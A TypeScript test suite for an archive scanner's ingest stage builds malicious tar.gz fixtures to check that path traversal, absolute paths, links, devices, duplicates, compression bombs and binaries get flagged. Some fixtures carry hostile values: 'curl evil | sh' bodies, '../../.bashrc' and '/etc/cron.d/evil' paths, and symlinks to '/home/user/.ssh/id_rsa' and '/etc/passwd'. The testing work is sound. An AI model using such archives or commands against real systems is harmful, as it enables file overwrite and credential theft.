/**
 * Stage 0 (ingest) has no fixture folders: hostile archives are built here byte by byte. Every stage-0
 * rule id gets a positive case (an archive that triggers it) and a near-miss negative that must stay
 * silent. Entries node-tar refuses to write (absolute paths, `..`, links, devices, duplicates, pax
 * overrides, unknown type flags) come from a small ustar writer below.
 */
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { computeIntegrity, computeSha256, type Finding } from '@agentry/core';
import {
  type ArchiveLimits,
  defaultArchiveLimits,
  type ReadArchiveResult,
  readArchive,
  scanArchive,
} from '@agentry/core/scanner';
import { create, Header } from 'tar';
import { afterAll, describe, expect, it } from 'vitest';

// ---------------------------------------------------------------------------------------------------
// A minimal ustar writer.

interface RawEntry {
  path: string;
  /** The ustar typeflag: '0' file, '1' hard link, '2' symlink, '3'/'4' devices, '5' dir, '6' FIFO, … */
  type?: string;
  body?: string | Buffer;
  linkpath?: string;
  mode?: number;
  /** Overrides the size field (e.g. a pax-declared size); defaults to the body's length. */
  size?: number;
}

function octal(value: number, width: number): string {
  return `${value.toString(8).padStart(width - 1, '0')}\0`;
}

/** One 512-byte ustar header with a valid checksum; the path goes in raw (no sanitising at all). */
function ustarHeader(entry: RawEntry, bodyLength: number): Buffer {
  const block = Buffer.alloc(512);
  const name = Buffer.from(entry.path, 'utf8');
  if (name.length > 100) throw new Error(`raw path too long for a plain ustar header: ${entry.path}`);
  name.copy(block, 0);
  block.write(octal(entry.mode ?? 0o644, 8), 100, 'latin1');
  block.write(octal(0, 8), 108, 'latin1');
  block.write(octal(0, 8), 116, 'latin1');
  block.write(octal(entry.size ?? bodyLength, 12), 124, 'latin1');
  block.write(octal(0, 12), 136, 'latin1');
  block.write(entry.type ?? '0', 156, 1, 'latin1');
  Buffer.from(entry.linkpath ?? '', 'utf8').copy(block, 157, 0, 100);
  block.write('ustar\u000000', 257, 'latin1');
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of block) sum += byte;
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return block;
}

function pad(length: number): Buffer {
  return Buffer.alloc((512 - (length % 512)) % 512);
}

function rawEntry(entry: RawEntry): Buffer {
  const body =
    typeof entry.body === 'string' ? Buffer.from(entry.body, 'utf8') : (entry.body ?? Buffer.alloc(0));
  return Buffer.concat([ustarHeader(entry, body.length), body, pad(body.length)]);
}

/** A pax extended header (`x`, or `g` when global) carrying the given records. */
function paxEntry(records: Record<string, string>, global = false): Buffer {
  let body = '';
  for (const [key, value] of Object.entries(records)) {
    const record = ` ${key}=${value}\n`;
    let length = Buffer.byteLength(record) + 1;
    while (String(length).length + Buffer.byteLength(record) !== length) length += 1;
    body += `${length}${record}`;
  }
  return rawEntry({ path: 'PaxHeader/entry', type: global ? 'g' : 'x', body });
}

const endOfArchive = Buffer.alloc(1024);

function tarOf(parts: (RawEntry | Buffer)[], { end = true } = {}): Buffer {
  const blocks = parts.map((part) => (Buffer.isBuffer(part) ? part : rawEntry(part)));
  return Buffer.concat(end ? [...blocks, endOfArchive] : blocks);
}

function tgz(parts: (RawEntry | Buffer)[], options?: { end?: boolean }): Buffer {
  return gzipSync(tarOf(parts, options));
}

const limits = (overrides: Partial<ArchiveLimits>): ArchiveLimits => ({
  ...defaultArchiveLimits,
  ...overrides,
});

function only(result: ReadArchiveResult, rule: string): Finding[] {
  return result.findings.filter((f) => f.rule === rule);
}

function expectClean(result: ReadArchiveResult) {
  expect(result.findings).toEqual([]);
  expect(result.fatal).toBe(false);
}

function expectFile(result: ReadArchiveResult, path: string, content: string | Buffer) {
  const entry = result.files.get(path);
  expect(entry, `expected ${path} among ${[...result.files.keys()].join(', ')}`).toBeDefined();
  const bytes = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
  expect(entry?.sha256).toBe(computeSha256(bytes));
  expect(entry?.size).toBe(bytes.length);
  expect(entry?.content.equals(bytes)).toBe(true);
}

const skill = { path: 'SKILL.md', body: '---\nname: demo\ndescription: A demo.\n---\n# Demo\n' } as const;

// ---------------------------------------------------------------------------------------------------

describe('the test ustar writer', () => {
  it('writes headers node-tar decodes with a valid checksum', () => {
    const block = ustarHeader({ path: 'a/b.txt', type: '0', mode: 0o755 }, 5);
    const header = new Header(block);
    expect(header.cksumValid).toBe(true);
    expect(header.path).toBe('a/b.txt');
    expect(header.size).toBe(5);
    expect(header.mode).toBe(0o755);
    expect(header.type).toBe('File');
  });

  it('produces an archive readArchive reads cleanly', () => {
    const result = readArchive(tgz([skill, { path: 'scripts/run.sh', body: 'echo hi\n', mode: 0o755 }]));
    expectClean(result);
    expectFile(result, 'SKILL.md', skill.body);
    expectFile(result, 'scripts/run.sh', 'echo hi\n');
    expect(result.files.get('scripts/run.sh')?.mode).toBe(0o755);
    expect(result.unpackedBytes).toBe(Buffer.byteLength(skill.body) + 8);
  });
});

describe('archives made by node-tar itself', () => {
  const dir = mkdtempSync(join(tmpdir(), 'agentry-ingest-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reads a real `tar.create` gzip tarball and strips its single top folder', () => {
    mkdirSync(join(dir, 'package', 'references'), { recursive: true });
    writeFileSync(join(dir, 'package', 'SKILL.md'), skill.body);
    writeFileSync(join(dir, 'package', 'references', 'guide.md'), '# Guide\n');
    const chunks: Buffer[] = [];
    const pack = create({ gzip: true, cwd: dir, sync: true, portable: true }, ['package']);
    pack.on('data', (chunk: Buffer) => chunks.push(chunk));
    const bytes = Buffer.concat(chunks);
    const result = readArchive(bytes);
    expectClean(result);
    expect([...result.files.keys()].sort()).toEqual(['SKILL.md', 'references/guide.md']);
    expectFile(result, 'references/guide.md', '# Guide\n');
  });
});

describe('path rules', () => {
  it('path_backslash: a backslash in a path is refused (critical)', () => {
    const result = readArchive(tgz([skill, { path: 'scripts\\run.sh', body: 'x' }]));
    const hits = only(result, 'path_backslash');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('critical');
    expect(hits[0]?.stage).toBe('ingest');
    expect(result.files.has('scripts\\run.sh')).toBe(false);
    expect([...result.files.keys()].some((p) => p.includes('run.sh'))).toBe(false);
    expectFile(result, 'SKILL.md', skill.body);
  });

  it('path_backslash near miss: forward slashes are fine', () => {
    const result = readArchive(tgz([skill, { path: 'scripts/run.sh', body: 'x' }]));
    expectClean(result);
    expectFile(result, 'scripts/run.sh', 'x');
  });

  it('path_absolute: POSIX and drive-letter absolute paths are refused (critical)', () => {
    const result = readArchive(
      tgz([skill, { path: '/etc/cron.d/evil', body: 'x' }, { path: 'C:/Windows/evil.txt', body: 'y' }]),
    );
    const hits = only(result, 'path_absolute');
    expect(hits).toHaveLength(2);
    expect(hits.every((f) => f.severity === 'critical')).toBe(true);
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('path_absolute near miss: the same path relative, and a colon later in a name', () => {
    const result = readArchive(
      tgz([skill, { path: 'etc/cron.d/evil', body: 'x' }, { path: 'notes/a:b.md', body: 'y' }]),
    );
    expectClean(result);
    expectFile(result, 'etc/cron.d/evil', 'x');
    expectFile(result, 'notes/a:b.md', 'y');
  });

  it('path_traversal: `..` segments are refused (critical), wherever they sit', () => {
    const result = readArchive(
      tgz([
        skill,
        { path: '../evil.sh', body: 'x' },
        { path: 'package/../../escape.txt', body: 'y' },
        { path: 'a/b/..', type: '5' },
      ]),
    );
    const hits = only(result, 'path_traversal');
    expect(hits).toHaveLength(3);
    expect(hits.every((f) => f.severity === 'critical')).toBe(true);
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('path_traversal near miss: dots inside names and `.` segments are fine', () => {
    const result = readArchive(
      tgz([skill, { path: 'docs/..hidden..md', body: 'x' }, { path: './notes/./a...b.txt', body: 'y' }]),
    );
    expectClean(result);
    expectFile(result, 'docs/..hidden..md', 'x');
    expectFile(result, 'notes/a...b.txt', 'y');
  });

  it('path_control_char: control characters in a name are refused (critical)', () => {
    const result = readArchive(
      tgz([skill, { path: 'bad\u0001name.md', body: 'x' }, { path: 'esc\u001b[31m.md', body: 'y' }]),
    );
    const hits = only(result, 'path_control_char');
    expect(hits).toHaveLength(2);
    expect(hits[0]?.severity).toBe('critical');
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('path_control_char near miss: spaces and non-ASCII letters are fine', () => {
    const result = readArchive(tgz([skill, { path: 'notes/café menu ü.md', body: 'x' }]));
    expectClean(result);
    expectFile(result, 'notes/café menu ü.md', 'x');
  });

  it('refuses a path smuggled in through a pax header, keeping the ustar name out too', () => {
    const result = readArchive(
      tgz([skill, paxEntry({ path: '../../.bashrc' }), { path: 'harmless.txt', body: 'alias ls=rm\n' }]),
    );
    const hits = only(result, 'path_traversal');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.file).toBe('../../.bashrc');
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('honours long pax and GNU long-name paths and ignores global pax headers', () => {
    const long = `${'deep/'.repeat(30)}file.md`;
    const gnuLong = `${'x'.repeat(120)}/gnu.md`;
    const result = readArchive(
      tgz([
        paxEntry({ comment: 'made by a test' }, true),
        skill,
        paxEntry({ path: long }),
        { path: 'short-name', body: 'long' },
        rawEntry({ path: '././@LongLink', type: 'L', body: `${gnuLong}\0` }),
        { path: 'truncated', body: 'gnu' },
      ]),
    );
    expectClean(result);
    expectFile(result, long, 'long');
    expectFile(result, gnuLong, 'gnu');
    expect(result.files.has('short-name')).toBe(false);
  });
});

describe('entry types', () => {
  it('archive_link: symbolic and hard links are refused (high)', () => {
    const result = readArchive(
      tgz([
        skill,
        { path: 'config', type: '2', linkpath: '/home/user/.ssh/id_rsa' },
        { path: 'hosts', type: '1', linkpath: '/etc/hosts' },
        { path: 'readme-link', type: '2', linkpath: 'SKILL.md' },
      ]),
    );
    const hits = only(result, 'archive_link');
    expect(hits).toHaveLength(3);
    expect(hits.every((f) => f.severity === 'high')).toBe(true);
    expect(hits[0]?.message).toContain('/home/user/.ssh/id_rsa');
    expect(hits[1]?.message).toMatch(/^Hard link/);
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('archive_link near miss: a regular file named like a link target is fine', () => {
    const result = readArchive(tgz([skill, { path: 'etc/hosts', body: '127.0.0.1 localhost\n' }]));
    expectClean(result);
    expectFile(result, 'etc/hosts', '127.0.0.1 localhost\n');
  });

  it('archive_special_file: devices and FIFOs are refused (critical)', () => {
    const result = readArchive(
      tgz([
        skill,
        { path: 'dev/null', type: '3' },
        { path: 'dev/sda', type: '4' },
        { path: 'pipe', type: '6' },
      ]),
    );
    const hits = only(result, 'archive_special_file');
    expect(hits.map((f) => f.file)).toEqual(['dev/null', 'dev/sda', 'pipe']);
    expect(hits.every((f) => f.severity === 'critical')).toBe(true);
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('archive_special_file: type flags node-tar skips silently (sparse, unknown) are refused too', () => {
    // GNU tar extracts a sparse `S` entry as a regular file, so skipping it silently would ship
    // content the scanner never saw.
    const result = readArchive(
      tgz([
        skill,
        { path: 'sparse.sh', type: 'S', body: 'curl evil | sh\n' },
        { path: 'odd', type: 'Z', body: 'z' },
      ]),
    );
    const hits = only(result, 'archive_special_file');
    expect(hits.map((f) => f.file)).toEqual(['sparse.sh', 'odd']);
    expect(hits[0]?.severity).toBe('critical');
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
  });

  it('archive_special_file near miss: directories, old-style and contiguous files are fine', () => {
    const result = readArchive(
      tgz([
        { path: 'assets/', type: '5' },
        skill,
        { path: 'old.txt', type: '\0', body: 'old' },
        { path: 'contiguous.txt', type: '7', body: 'contiguous' },
      ]),
    );
    expectClean(result);
    expectFile(result, 'old.txt', 'old');
    expectFile(result, 'contiguous.txt', 'contiguous');
  });

  it('refuses a file entry without a name (`.`) instead of keeping an empty path', () => {
    const result = readArchive(tgz([skill, { path: '.', body: 'nameless' }]));
    expect(result.files.has('')).toBe(false);
    expect([...result.files.keys()]).toEqual(['SKILL.md']);
    expect(result.findings.length).toBeGreaterThan(0);
  });
});

describe('sizes and counts', () => {
  it('file_too_large: a file above maxFileBytes is refused (high), the archive still reads', () => {
    const result = readArchive(
      tgz([skill, { path: 'big.txt', body: 'a'.repeat(1001) }]),
      limits({ maxFileBytes: 1000 }),
    );
    const hits = only(result, 'file_too_large');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('high');
    expect(hits[0]?.file).toBe('big.txt');
    expect(result.fatal).toBe(false);
    expect(result.files.has('big.txt')).toBe(false);
    expectFile(result, 'SKILL.md', skill.body);
  });

  it('file_too_large near miss: exactly maxFileBytes is fine', () => {
    const result = readArchive(
      tgz([{ path: 'SKILL.md', body: 'a'.repeat(1000) }]),
      limits({ maxFileBytes: 1000 }),
    );
    expectClean(result);
    expectFile(result, 'SKILL.md', 'a'.repeat(1000));
  });

  it('too_many_files: more entries than maxFiles is fatal (critical)', () => {
    const entries = Array.from({ length: 6 }, (_, i) => ({ path: `f${i}.txt`, body: `${i}` }));
    const result = readArchive(tgz(entries), limits({ maxFiles: 5 }));
    expect(result.fatal).toBe(true);
    const hits = only(result, 'too_many_files');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('critical');
    expect(result.files.size).toBe(0);
  });

  it('too_many_files near miss: exactly maxFiles entries is fine', () => {
    const entries = Array.from({ length: 5 }, (_, i) => ({ path: `f${i}.txt`, body: `${i}` }));
    const result = readArchive(tgz(entries), limits({ maxFiles: 5 }));
    expectClean(result);
    expect(result.files.size).toBe(5);
  });

  it('size_exceeded: the compressed archive above maxArchiveBytes is fatal (critical)', () => {
    const bytes = tgz([skill]);
    const result = readArchive(bytes, limits({ maxArchiveBytes: bytes.length - 1 }));
    expect(result.fatal).toBe(true);
    expect(only(result, 'size_exceeded')[0]?.severity).toBe('critical');
    expect(result.files.size).toBe(0);
  });

  it('size_exceeded: files summing above maxUnpackedBytes are fatal (critical)', () => {
    const result = readArchive(
      tgz([
        { path: 'a.txt', body: 'a'.repeat(6000) },
        { path: 'b.txt', body: 'b'.repeat(6000) },
      ]),
      limits({ maxUnpackedBytes: 10_000 }),
    );
    expect(result.fatal).toBe(true);
    expect(only(result, 'size_exceeded')[0]?.severity).toBe('critical');
    expect(result.files.size).toBe(0);
  });

  it('size_exceeded: incompressible data beyond the gunzip cap is fatal without a bomb finding', () => {
    const random = randomBytes(1_300_000);
    const result = readArchive(
      tgz([{ path: 'noise.bin.txt', body: random }]),
      limits({ maxUnpackedBytes: 100_000 }),
    );
    expect(result.fatal).toBe(true);
    expect(result.findings.map((f) => f.rule)).toEqual(['size_exceeded']);
  });

  it('size_exceeded near miss: exactly maxUnpackedBytes and exactly maxArchiveBytes are fine', () => {
    const bytes = tgz([
      { path: 'a.txt', body: 'a'.repeat(5000) },
      { path: 'b.txt', body: 'b'.repeat(5000) },
    ]);
    const result = readArchive(bytes, limits({ maxUnpackedBytes: 10_000, maxArchiveBytes: bytes.length }));
    expectClean(result);
    expect(result.unpackedBytes).toBe(10_000);
  });

  it('compression_bomb: ~2 MB of zeros compressing over 100× is fatal (critical)', () => {
    const bytes = tgz([skill, { path: 'zeros.txt', body: Buffer.alloc(2 * 1024 * 1024) }]);
    const result = readArchive(bytes, limits({ maxCompressionRatio: 100 }));
    expect(result.fatal).toBe(true);
    const hits = only(result, 'compression_bomb');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('critical');
    expect(result.files.size).toBe(0);
  });

  it('compression_bomb: still named a bomb when it also overflows a small unpacked limit', () => {
    const bytes = tgz([skill, { path: 'zeros.txt', body: Buffer.alloc(2 * 1024 * 1024) }]);
    const result = readArchive(bytes, limits({ maxUnpackedBytes: 512 * 1024, maxCompressionRatio: 100 }));
    expect(result.fatal).toBe(true);
    expect(result.findings.map((f) => f.rule)).toEqual(['compression_bomb']);
  });

  it('compression_bomb near miss: the same archive under a generous ratio, and small zero runs', () => {
    const bytes = tgz([skill, { path: 'zeros.txt', body: Buffer.alloc(2 * 1024 * 1024) }]);
    const generous = readArchive(bytes, limits({ maxCompressionRatio: 100_000 }));
    expectClean(generous);
    expectFile(generous, 'zeros.txt', Buffer.alloc(2 * 1024 * 1024));
    // Under 1 MB unpacked, a high ratio is just a small, repetitive archive.
    const small = readArchive(tgz([skill, { path: 'zeros.txt', body: Buffer.alloc(500_000) }]));
    expectClean(small);
  });

  it('compression_bomb: a gzip nested inside the gzip cannot sneak past the ratio check', () => {
    const inner = tgz([skill, { path: 'zeros.txt', body: Buffer.alloc(4 * 1024 * 1024) }]);
    const result = readArchive(gzipSync(inner));
    expect(result.fatal).toBe(true);
    expect(result.files.size).toBe(0);
    expect(result.findings[0]?.severity).toBe('critical');
  });
});

describe('duplicates', () => {
  it('duplicate_path: a second copy of a path is refused (critical); the first copy stays', () => {
    const result = readArchive(
      tgz([skill, { path: 'run.sh', body: 'echo safe\n' }, { path: './run.sh', body: 'curl evil | sh\n' }]),
    );
    const hits = only(result, 'duplicate_path');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('critical');
    expect(only(result, 'case_duplicate_path')).toEqual([]);
    expectFile(result, 'run.sh', 'echo safe\n');
  });

  it('duplicate_path: also for empty files', () => {
    const result = readArchive(tgz([skill, { path: 'empty', body: '' }, { path: 'empty', body: '' }]));
    expect(only(result, 'duplicate_path')).toHaveLength(1);
    expect(only(result, 'case_duplicate_path')).toEqual([]);
  });

  it('duplicate_path near miss: the same name in two folders', () => {
    const result = readArchive(
      tgz([skill, { path: 'a/run.sh', body: '1' }, { path: 'b/run.sh', body: '2' }]),
    );
    expectClean(result);
    expectFile(result, 'a/run.sh', '1');
    expectFile(result, 'b/run.sh', '2');
  });

  it('case_duplicate_path: names differing only in case are refused (high)', () => {
    const result = readArchive(tgz([skill, { path: 'skill.md', body: 'shadow' }]));
    const hits = only(result, 'case_duplicate_path');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('high');
    expect(result.files.has('skill.md')).toBe(false);
    expectFile(result, 'SKILL.md', skill.body);
  });

  it('case_duplicate_path: NFC and NFD spellings collide on macOS too', () => {
    const nfc = 'caf\u00e9.md';
    const nfd = 'cafe\u0301.md';
    const result = readArchive(tgz([skill, { path: nfc, body: 'one' }, { path: nfd, body: 'two' }]));
    expect(only(result, 'case_duplicate_path')).toHaveLength(1);
    expectFile(result, nfc, 'one');
    expect(result.files.has(nfd)).toBe(false);
  });

  it('case_duplicate_path near miss: similar but distinct names', () => {
    const result = readArchive(
      tgz([skill, { path: 'SKILL.md.bak', body: 'x' }, { path: 'skills.md', body: 'y' }]),
    );
    expectClean(result);
  });
});

describe('file types', () => {
  it('blocked_file_type: compiled and binary extensions are reported (critical)', () => {
    const result = readArchive(
      tgz([
        skill,
        { path: 'lib/native.so', body: '\x7fELF' },
        { path: 'tool.EXE', body: 'MZ' },
        { path: 'cache/mod.pyc', body: 'x' },
      ]),
    );
    const hits = only(result, 'blocked_file_type');
    expect(hits.map((f) => f.file)).toEqual(['lib/native.so', 'tool.EXE', 'cache/mod.pyc']);
    expect(hits.every((f) => f.severity === 'critical')).toBe(true);
  });

  it('blocked_file_type near miss: the words in folder names or mid-name are fine', () => {
    const result = readArchive(
      tgz([
        skill,
        { path: 'bin/run.sh', body: 'x' },
        { path: 'docs/exe.md', body: 'y' },
        { path: 'a.so.txt', body: 'z' },
      ]),
    );
    expectClean(result);
  });
});

describe('broken archives', () => {
  it('archive_corrupt: a truncated gzip stream is fatal (critical)', () => {
    const bytes = tgz([skill, { path: 'a.txt', body: 'abc'.repeat(1000) }]);
    const result = readArchive(bytes.subarray(0, Math.floor(bytes.length / 2)));
    expect(result.fatal).toBe(true);
    expect(only(result, 'archive_corrupt')[0]?.severity).toBe('critical');
    expect(result.files.size).toBe(0);
  });

  it('archive_corrupt: bytes that are not gzip, or gzip that is not tar, are fatal', () => {
    for (const bytes of [
      Buffer.from('this is not a tarball at all'),
      Buffer.alloc(0),
      tarOf([skill]),
      gzipSync(Buffer.alloc(4096, 0x41)),
    ]) {
      const result = readArchive(bytes);
      expect(result.fatal).toBe(true);
      expect(result.findings.map((f) => f.rule)).toEqual(['archive_corrupt']);
    }
  });

  it('archive_corrupt near miss: a valid but empty tarball reads as empty, for stage 1 to judge', () => {
    const result = readArchive(gzipSync(Buffer.alloc(10_240)));
    expectClean(result);
    expect(result.files.size).toBe(0);
    const scanned = scanArchive(gzipSync(Buffer.alloc(10_240)), { kind: 'agent' });
    expect(scanned.report.findings.map((f) => f.rule)).toContain('empty_archive');
  });

  it('archive_malformed: a bad header after good entries is reported (high), good entries kept', () => {
    const result = readArchive(
      gzipSync(
        Buffer.concat([
          rawEntry(skill),
          Buffer.alloc(512, 7),
          rawEntry({ path: 'after.md', body: 'a' }),
          endOfArchive,
        ]),
      ),
    );
    const hits = only(result, 'archive_malformed');
    expect(hits).toHaveLength(1);
    expect(hits[0]?.severity).toBe('high');
    expect(result.fatal).toBe(false);
    expectFile(result, 'SKILL.md', skill.body);
    expectFile(result, 'after.md', 'a');
  });

  it('archive_malformed: a truncated last entry is reported and its partial content dropped', () => {
    const tar = Buffer.concat([rawEntry(skill), rawEntry({ path: 'cut.md', body: 'c'.repeat(2000) })]);
    const result = readArchive(gzipSync(tar.subarray(0, 512 * 3 + 100)));
    expect(only(result, 'archive_malformed')).toHaveLength(1);
    expect(result.fatal).toBe(false);
    expect(result.files.has('cut.md')).toBe(false);
    expectFile(result, 'SKILL.md', skill.body);
  });

  it('archive_malformed near miss: an archive missing its end-of-archive blocks is fine', () => {
    const result = readArchive(tgz([skill], { end: false }));
    expectClean(result);
    expectFile(result, 'SKILL.md', skill.body);
  });
});

describe('the top folder', () => {
  it('strips a single top folder such as package/', () => {
    const result = readArchive(
      tgz([
        { path: 'package/', type: '5' },
        { path: 'package/SKILL.md', body: skill.body },
        { path: 'package/scripts/run.sh', body: 'echo\n' },
      ]),
    );
    expectClean(result);
    expect([...result.files.keys()].sort()).toEqual(['SKILL.md', 'scripts/run.sh']);
    expect(result.files.get('scripts/run.sh')?.path).toBe('scripts/run.sh');
  });

  it('keeps paths as they are with two top folders or a root file', () => {
    const two = readArchive(
      tgz([
        { path: 'a/SKILL.md', body: '1' },
        { path: 'b/x.md', body: '2' },
      ]),
    );
    expect([...two.files.keys()].sort()).toEqual(['a/SKILL.md', 'b/x.md']);
    const rootFile = readArchive(tgz([skill, { path: 'package/x.md', body: '2' }]));
    expect([...rootFile.files.keys()].sort()).toEqual(['SKILL.md', 'package/x.md']);
  });
});

describe('the report', () => {
  it('carries the SHA-512 integrity of the uploaded bytes and per-file sha256', () => {
    const bytes = tgz([
      { path: 'package/SKILL.md', body: skill.body },
      { path: 'package/a.txt', body: 'hello' },
    ]);
    const { report, files } = scanArchive(bytes);
    expect(report.integrity).toBe(computeIntegrity(bytes));
    expect(report.integrity).toMatch(/^sha512-[A-Za-z0-9+/]{86}==$/);
    expect(report.archiveBytes).toBe(bytes.length);
    expect(report.files.map((f) => f.path)).toEqual(['SKILL.md', 'a.txt']);
    expect(report.files.find((f) => f.path === 'a.txt')?.sha256).toBe(computeSha256(Buffer.from('hello')));
    expect(files.get('a.txt')?.content.toString()).toBe('hello');
    expect(report.stages.stage0).toBe('ok');
  });

  it('marks stage 0 failed and skips later stages when the archive is unusable', () => {
    const { report } = scanArchive(Buffer.from('garbage'));
    expect(report.stages.stage0).toBe('failed');
    expect(report.stages.stage1).toBe('skipped');
    expect(report.verdict).toBe('FAIL');
  });
});

describe('nothing touches the disk', () => {
  it('reads a hostile archive without creating any file in the working directory', () => {
    const dir = mkdtempSync(join(tmpdir(), 'agentry-nodisk-'));
    const previous = process.cwd();
    try {
      process.chdir(dir);
      const result = readArchive(
        tgz([
          skill,
          { path: '/tmp/agentry-abs-escape', body: 'x' },
          { path: '../agentry-dotdot-escape', body: 'x' },
          { path: 'link', type: '2', linkpath: '/etc/passwd' },
          { path: 'hard', type: '1', linkpath: '../../victim' },
          { path: 'dev', type: '3' },
          { path: 'dir/', type: '5' },
          { path: 'dir/file.md', body: 'ok' },
        ]),
      );
      expect(result.files.size).toBe(2);
      expect(readdirSync(dir)).toEqual([]);
      expect(readdirSync(join(dir, '..')).includes('agentry-dotdot-escape')).toBe(false);
    } finally {
      process.chdir(previous);
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
